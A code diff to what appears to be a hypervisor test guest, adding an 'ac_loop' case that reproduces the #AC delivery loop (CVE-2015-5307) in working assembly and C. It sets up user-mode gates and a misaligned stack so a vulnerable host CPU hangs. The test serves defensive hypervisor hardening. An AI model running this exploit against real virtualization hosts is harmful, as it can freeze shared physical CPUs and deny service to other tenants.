@@ -36,6 +36,9 @@
  *                from both vCPUs, the second also rewriting the first's ring
  * and with its second vCPU (config/attack.dts):
  *   sipi_storm   INIT, SIPI, NMI and fixed IPIs at it, and IPIs to nowhere
+ * and:
+ *   ac_loop      the #AC delivery loop (CVE-2015-5307): never ends; nethv
+ *                must stop this VM
  */
 #include "../lib/guest.h"
 #include <stddef.h>
@@ -588,6 +591,50 @@ static void mac_flood(void)
     }
 }
 
+/* ---- ac_loop: the #AC delivery loop (CVE-2015-5307) ----
+ * At CPL 3 with CR0.AM, EFLAGS.AC and a misaligned stack, a misaligned
+ * load raises #AC, whose gate leads to a CPL-3 handler: delivering it
+ * pushes onto the same misaligned stack and raises #AC again, forever --
+ * on a CPU that does not intercept #AC, a hung physical CPU.  nethv must
+ * keep its CPU and stop this VM as hung.  (QEMU TCG raises no #AC: Bochs
+ * only, see attacks.sh.)  Never returns if the loop is made. */
+extern char ac_user[], ac_handler[];
+__asm__(
+    "   .text\n"
+    "ac_user:\n"
+    "   movl (%esp), %eax\n"            /* misaligned: #AC */
+    "   jmp ac_user\n"
+    "ac_handler:\n"                     /* never reached: its delivery faults */
+    "   iret\n");
+static uint64_t ac_gdt[6] = { 0, 0x00cf9a000000ffffull, 0x00cf92000000ffffull, 0x00cf12000000ffffull,
+                              0x00cffa000000ffffull, 0x00cff2000000ffffull };   /* 0x20/0x28: DPL 3 */
+static uint32_t ac_stack[64];
+
+static void ac_loop(void)
+{
+    struct { uint16_t limit; uint32_t base; } __attribute__((packed)) gd = { sizeof(ac_gdt) - 1,
+                                                                          (uint32_t)ac_gdt }, id;
+    __asm__ volatile("lgdt %0; sidt %1" : : "m"(gd), "m"(id) : "memory");
+    __asm__ volatile("sidt %0" : "=m"(id));
+    volatile uint32_t *g = (volatile uint32_t *)(id.base + 8 * 17);
+    uint32_t h = (uint32_t)ac_handler;
+    g[0] = (h & 0xffff) | 0x20u << 16;                  /* to the DPL-3 code segment */
+    g[1] = (h & 0xffff0000u) | 0xee00u;                 /* P, DPL 3, 32-bit interrupt gate */
+    uint32_t cr0;
+    __asm__ volatile("mov %%cr0, %0" : "=r"(cr0));
+    __asm__ volatile("mov %0, %%cr0" :: "r"(cr0 | (1u << 18)));        /* AM */
+    count = 1;
+    __asm__ volatile(
+        "   movw $0x2b, %%ax\n   movw %%ax, %%ds\n   movw %%ax, %%es\n"
+        "   pushl $0x2b\n"              /* SS */
+        "   pushl %0\n"                 /* ESP, 2 bytes off */
+        "   pushl $0x40002\n"           /* AC */
+        "   pushl $0x23\n"
+        "   pushl $ac_user\n"
+        "   iret\n"
+        :: "r"((uint32_t)&ac_stack[63] - 2) : "eax", "memory");
+}
+
 /* ---- gw_spoof: the uplink's gateway, and a Linux neighbour ----
  * For qemu-net's uplink-attack case (config/net-uplink-attack.dts): device
  * 0 sends from the MAC of QEMU's user-network gateway (52:55:0a:00:02:02,
@@ -812,6 +859,7 @@ static const struct {
     { "tx_flood", "bad frames", tx_flood },
     { "sipi_storm", "ICR writes", sipi_storm },
     { "gw_spoof", "spoofed frames", gw_spoof },
+    { "ac_loop", "loops", ac_loop },
 };
 
 int guest_main(uint32_t magic, uint32_t mbi)
